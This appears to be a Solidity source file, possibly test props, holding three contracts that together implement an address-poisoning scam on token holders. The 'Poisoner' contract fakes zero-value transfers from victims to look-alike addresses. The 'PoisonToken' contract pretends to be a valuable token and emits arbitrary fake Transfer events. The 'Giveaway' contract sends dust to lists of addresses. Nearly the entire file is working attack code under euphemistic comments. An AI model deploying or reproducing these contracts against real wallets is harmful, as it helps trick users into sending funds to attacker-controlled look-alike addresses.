// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Token} from "../props/Tokens.sol";

/// Writes look-alikes into people's histories: transfers of nothing in their name, which need no approval, and crumbs.
contract Poisoner {
    struct Dose {
        address victim;
        address alike;
    }

    function nothing(Token token, Dose[] calldata doses) external {
        for (uint256 i = 0; i < doses.length; i++) token.transferFrom(doses[i].victim, doses[i].alike, 0);
    }
}

/// Looks like a token of value in a list, and writes what it likes.
contract PoisonToken {
    string public name;
    string public symbol;
    uint8 public decimals;

    event Transfer(address indexed from, address indexed to, uint256 value);

    function dress(string calldata name_, string calldata symbol_, uint8 decimals_) external {
        (name, symbol, decimals) = (name_, symbol_, decimals_);
    }

    function write(address[] calldata from, address[] calldata to, uint256[] calldata amounts) external {
        for (uint256 i = 0; i < from.length; i++) emit Transfer(from[i], to[i], amounts[i]);
    }
}

/// Gives everyone who is on a list a little, as shops do.
contract Giveaway {
    function give(Token token, address[] calldata to, uint256 each) external {
        for (uint256 i = 0; i < to.length; i++) token.transferFrom(msg.sender, to[i], each);
    }
}
